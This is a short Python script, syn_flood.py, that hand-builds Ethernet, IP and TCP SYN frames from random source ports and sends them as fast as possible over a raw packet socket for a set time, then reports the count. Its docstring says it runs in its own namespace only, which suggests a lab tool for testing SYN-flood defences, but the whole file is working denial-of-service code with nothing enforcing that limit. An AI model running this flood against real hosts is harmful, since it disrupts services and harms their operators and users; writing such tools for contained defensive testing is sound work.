"""Sends opening SYNs from random ports, in its own namespace only.

usage: syn_flood.py DEVICE SOURCE_MAC SOURCE DESTINATION_MAC DESTINATION PORT SECONDS
Says how many it has sent.
"""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def frames(source_mac, source, destination_mac, destination, port):
    ethernet = bytes.fromhex((destination_mac + source_mac).replace(":", "")) + b"\x08\x00"
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 1, 0x4000, 64, 6, 0) + addresses
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    pseudo = addresses + struct.pack(">BBH", 0, 6, 20)
    while True:
        tcp = struct.pack(">HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32),
                          0, 0x50, 2, 8192, 0, 0)
        tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
        yield ethernet + ip + tcp


def main():
    device, *about, port, seconds = sys.argv[1:]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((device, 0))
    until = time.monotonic() + float(seconds)
    sent = 0
    for frame in frames(*about, int(port)):
        out.send(frame)
        sent += 1
        if sent % 64 == 0 and time.monotonic() > until:
            break
    print(sent)


if __name__ == "__main__":
    main()
